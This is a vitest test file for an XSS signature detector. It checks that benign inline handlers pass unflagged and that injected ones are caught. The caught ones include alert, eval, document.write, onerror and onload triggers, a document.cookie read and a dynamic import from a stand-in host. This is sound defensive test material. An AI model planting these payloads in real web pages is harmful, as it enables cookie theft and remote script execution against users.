import { expect, test } from 'vitest';
import { decoyField } from '../../../src/attacks/fields/field-kind.ts';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';
import { xss } from '../../../src/attacks/signatures/xss.ts';
import { foundIn, jsonBody } from '../found-in.ts';

test.each([
  '<div class="dialog"><button id="close" onclick="closeNotes()">Close</button></div>',
  '<a class="tab" onclick="panel.toggle(this, \'left\'); return false">More</a>',
  '<select onchange="showMonth(event)"><option>May</option></select>',
  '<a class="close" onclick="$(\'#notes\').hide()">x</a>',
  '<input placeholder="Name" oninput="updateNotes(event)">',
  '<form onsubmit="return checkOrder(this)"><input name="amount"></form>',
])('a part of a page calls functions of its own when somebody asks for it: %s', (markup) => {
  expect(foundIn(xss, jsonBody({ x: markup }))).toEqual([]);
});

test.each([
  '<button onclick="alert(1)">Close</button>',
  '<button onclick="eval(name)">Close</button>',
  '<a onclick="location.assign(\'a\')">More</a>',
  '<a onclick="document.write(\'a\')">More</a>',
  '<img src="a.png" onerror="closeNotes()">',
  '<body onload="closeNotes()">',
  '<input autofocus onfocus="closeNotes()">',
  '<a onclick="closeNotes(document.cookie)">More</a>',
  '<a onclick="$(\'#notes\').html(name)">More</a>',
  "<a onclick=\"$('#notes').load('a')\">More</a>",
  '<a onclick="closeNotes()+import(\'//a.example\')">More</a>',
])('what nobody asked for, or what is known to act, is found: %s', (markup) => {
  expect(foundIn(xss, jsonBody({ x: markup }))).not.toEqual([]);
});

test('an address asks for no handler, and a decoy is sent none', () => {
  const markup = '<button onclick="closeNotes()">Close</button>';
  expect(foundIn(xss, markup)).not.toEqual([]);
  const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'application/json' };
  const body = JSON.stringify({ x: markup });
  expect(findSignatures({ ...request, body }, [xss], null, decoyField).matches).not.toEqual([]);
});
